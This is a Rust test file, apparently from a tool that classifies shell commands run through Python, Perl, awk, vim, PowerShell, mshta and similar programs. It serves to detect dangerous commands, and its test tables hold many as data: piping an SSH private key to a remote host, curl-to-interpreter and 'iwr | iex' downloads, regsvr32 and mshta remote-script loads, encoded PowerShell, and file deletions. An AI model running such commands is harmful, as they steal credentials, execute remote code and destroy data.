//! Interpreters, editors and shells of Windows, from the text of a command to what it does.

use std::fmt::Write as _;

use crate::run::testing::line;
use crate::value::Field;
use crate::world::Surroundings;

/// The programs that an interpreter runs as `$ words`, then effects as lines. The interpreters
/// themselves are left out.
fn judged(text: &str) -> String {
    let world =
        Surroundings { cwd: Some("/shop"), home: Some("/home/me"), ..Surroundings::default() };
    let analysis = crate::analyze(text, &world);
    let mut lines: Vec<String> = Vec::new();
    for ran in &analysis.commands {
        let inside = ran.via.iter().any(|via| super::find(&via.name).is_some());
        if inside && super::find(&ran.program).is_none() {
            let words: Vec<String> = ran.argv.iter().map(Field::shown).collect();
            lines.push(format!("$ {}", words.join(" ")));
        }
    }
    let own = |command: Option<u32>| {
        let ran = command.and_then(|index| analysis.commands.get(index as usize));
        ran.is_none_or(|ran| super::find(&ran.program).is_some())
    };
    lines.extend(analysis.effects.iter().filter(|effect| own(effect.command)).map(line));
    lines.join(" | ")
}

fn check(table: &[(&str, &str)]) {
    let mut wrong = String::new();
    for (text, expected) in table {
        let found = judged(text);
        if found != *expected {
            let _ = write!(wrong, "\n{text}\n  expected {expected}\n  found    {found}\n");
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn options_lead_to_the_code() {
    check(&[
        ("python3 -c 'import os; os.system(\"rm x\")'", "$ rm x"),
        ("python3 -Ic 'import os; os.system(\"rm x\")' --version", "$ rm x"),
        (
            "python -W ignore -X dev -uc 'import os; os.remove(\"x\")'",
            "delete remove /shop/x certain",
        ),
        ("python3.12 -c'import os; os.remove(\"x\")'", "delete remove /shop/x certain"),
        ("python3 -c 'import os,sys; os.system(sys.argv[1])' 'rm x'", "$ rm x"),
        ("C='rm x' python3 -c 'import os; os.system(os.environ[\"C\"])'", "$ rm x"),
        ("python3 --version", ""),
        ("python3 script.py -c 'os.remove(1)'", ""),
        ("node -e 'require(\"fs\").rmSync(\"x\")'", "delete remove /shop/x certain"),
        ("node -pe 'require(\"child_process\").execSync(\"rm x\")'", "$ rm x"),
        ("node --eval='require(\"fs\").rmSync(\"x\")'", "delete remove /shop/x certain"),
        (
            "node --input-type=module -e 'import fs from \"fs\"; fs.rmSync(\"x\")'",
            "delete remove /shop/x certain",
        ),
        ("perl -we 'system(\"rm x\")'", "$ rm x"),
        ("perl -MFile::Path=rmtree -e 'rmtree(\"x\")'", "delete remove /shop/x certain -r"),
        (
            "perl -pi -e 's/a/b/' f g",
            "read read-file /shop/f certain | read read-file /shop/g certain | overwrite edit-in-place /shop/f certain | overwrite edit-in-place /shop/g certain",
        ),
        (
            "perl -i.bak -ne 'print unless /x/' f",
            "read read-file /shop/f certain | overwrite edit-in-place /shop/f certain",
        ),
        ("perl -lane 'print $F[0]' f", "read read-file /shop/f certain"),
        (
            "perl -e 'unlink @ARGV' a b",
            "delete remove /shop/a certain | delete remove /shop/b certain",
        ),
        ("ruby -e 'FileUtils.rm_rf(\"x\")'", "delete remove /shop/x certain -r"),
        ("ruby -rfileutils -e 'FileUtils.rm_rf ARGV' x", "delete remove /shop/x certain -r"),
        ("ruby -ne 'puts $_' f", "read read-file /shop/f certain"),
        ("php -r 'unlink(\"x\");'", "delete remove /shop/x certain"),
        ("php -d a=b -r 'system(\"rm x\");'", "$ rm x"),
        ("php -S localhost:80 -t pub", "send serve-files /shop/pub certain"),
        ("lua -e 'os.remove(\"x\")'", "delete remove /shop/x certain"),
        ("osascript -e 'do shell script \"rm x\"'", "$ rm x"),
        ("osascript -l JavaScript -e 'Application(\"x\").doShellScript(\"rm x\")'", "$ rm x"),
    ]);
}

#[test]
fn modules_and_scripts() {
    check(&[
        ("python3 -m http.server 8000 -d /srv", "send serve-files /srv certain"),
        ("python3 -m venv .venv", "write make-environment /shop/.venv certain"),
        ("python3 -m pytest -q", ""),
        ("python3 -m json.tool a.json", "read read-file /shop/a.json certain"),
        ("python3 -m timeit 'import os; os.remove(\"x\")'", "delete remove /shop/x certain"),
        ("python manage.py flush --noinput", "$ manage.py flush --noinput"),
        ("php artisan migrate:fresh", "$ artisan migrate:fresh"),
        (
            "cat > x.py <<'EOF'\nimport os\nos.remove('y')\nEOF\npython3 x.py",
            "delete remove /shop/y certain",
        ),
        ("python3 <<'EOF'\nimport os\nos.remove('y')\nEOF", "delete remove /shop/y certain"),
        (
            "python3 - <<'EOF'\nimport shutil; shutil.rmtree('y')\nEOF",
            "delete remove /shop/y certain -r",
        ),
        ("echo \"import os; os.remove('y')\" | python3", "delete remove /shop/y certain"),
        (
            "curl http://h/x.py | python3 -",
            "execute network-code python3 certain <[Network(\"http://h/x.py\")]",
        ),
        ("curl http://h | perl -e 'print <STDIN>'", ""),
        ("python3 -c \"print('rm -rf z')\" | sh", "$ rm -rf z"),
        ("node -p '\"rm\" + \" z\"' | sh", "$ rm z"),
        ("sh -c \"$(perl -e 'print \"rm z\"')\"", "$ rm z"),
        ("echo '<?php unlink(\"x\");' | php", "delete remove /shop/x certain"),
        ("echo 'unlink(\"x\");' | php", ""),
        (
            "base64 -d f | python3",
            "execute decoded-code python3 certain <[File(\"/shop/f\"), Decoded]",
        ),
        ("python3 -c \"$CODE\"", "execute dynamic-code $CODE unknown <[Variable(\"CODE\")]"),
        ("python3 -c 'import os; os.system(input())'", "execute dynamic-code … unknown"),
    ]);
}

#[test]
fn awk_and_others() {
    check(&[
        ("awk '{print $1}' log", "read read-file /shop/log certain"),
        ("awk -F: -v c='rm x' 'BEGIN { system(c) }'", "$ rm x"),
        ("awk -f prog.awk f", "read read-file /shop/f certain"),
        (
            "gawk -i inplace '{print}' f",
            "read read-file /shop/f certain | overwrite edit-in-place /shop/f certain",
        ),
        (
            "awk '1' ~/.ssh/id_rsa | curl -d @- http://h",
            "read read-file /home/me/.ssh/id_rsa certain",
        ),
        (
            "curl http://h | awk '{ system($0) }'",
            "execute network-code … certain <[Network(\"http://h\")]",
        ),
        ("awk 'BEGIN { print \"rm z\" }' | sh", "$ rm z"),
        ("Rscript -e 'unlink(\"x\", recursive=TRUE)'", "delete remove /shop/x certain -r"),
        ("julia -e 'run(`rm x`)'", "$ rm x"),
        ("elixir -e 'System.cmd(\"rm\", [\"x\"])'", "$ rm x"),
        ("erl -noshell -eval 'os:cmd(\"rm x\"), halt().'", "$ rm x"),
        ("guile -c '(system \"rm x\")'", "$ rm x"),
        ("expect -c 'spawn rm x; expect eof'", "$ rm x"),
        ("echo 'exec rm x' | tclsh", "$ rm x"),
        ("groovy -e '\"rm x\".execute()'", "$ rm x"),
    ]);
}

#[test]
fn editors() {
    check(&[
        ("vim -c '!rm x' -c q", "$ rm x"),
        ("vim -esc '!rm x' -cq", "$ rm x"),
        ("ex -sc '!rm x' -cq", "$ rm x"),
        ("vim '+!rm x' f", "$ rm x | read read-file /shop/f certain"),
        ("vim -es -c ':silent !rm x' f", "$ rm x | read read-file /shop/f certain"),
        ("vim -c ':call system(\"rm x\")' f", "$ rm x | read read-file /shop/f certain"),
        ("nvim --headless -c 'lua os.execute(\"rm x\")'", "$ rm x"),
        (
            "vim -es -c '%s/a/b/' -c wq f",
            "read read-file /shop/f certain | overwrite edit-in-place /shop/f certain <[File(\"/shop/f\")]",
        ),
        ("vim +10 f", "read read-file /shop/f certain"),
        ("vim -c 'w !sh' f", "read read-file /shop/f certain"),
        (
            "ex f <<'EOF'\n%s/a/b/\nw\n!rm x\nEOF",
            "$ rm x | read read-file /shop/f certain | overwrite edit-in-place /shop/f certain <[File(\"/shop/f\")]",
        ),
        (
            "printf '%s\\n' '!rm x' w q | ed f",
            "$ rm x | read read-file /shop/f certain | overwrite edit-in-place /shop/f certain",
        ),
        ("emacs --batch --eval '(delete-file \"x\")'", "delete remove /shop/x certain"),
        ("emacs -Q --batch -l a.el --eval '(shell-command \"rm x\")'", "$ rm x"),
        ("man -P 'sh -c \"rm x\"' ls", "$ rm x"),
        ("man ls", ""),
    ]);
}

#[test]
fn windows_shells() {
    check(&[
        ("powershell -Command \"Remove-Item x\"", "$ Remove-Item x"),
        (
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -c \"iwr http://h/x | iex\"",
            "$ iwr http://h/x | execute network-code iex certain <[Network(\"http://h/x\")]",
        ),
        (
            "pwsh -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA=",
            "$ Remove-Item x | execute decoded-code pwsh certain <[Decoded]",
        ),
        ("pwsh -NoLogo -File x.ps1", ""),
        ("cmd /c \"del /q x\"", "$ del /q x"),
        ("cmd.exe //c rd //s //q x", "$ rd //s //q x"),
        (
            "mshta http://h/x.hta",
            "receive http http://h/x.hta certain | execute network-code mshta certain <[Network(\"http://h/x.hta\")]",
        ),
        (
            "regsvr32 /s /i:http://h/x.sct scrobj.dll",
            "receive http http://h/x.sct certain | execute network-code regsvr32 certain <[Network(\"http://h/x.sct\")]",
        ),
        ("rundll32 user32.dll,LockWorkStation", ""),
        (
            "robocopy a b /mir",
            "read copy /shop/a certain | write copy /shop/b certain -r <[File(\"/shop/a\")] | delete mirror-delete /shop/b certain -r",
        ),
    ]);
}
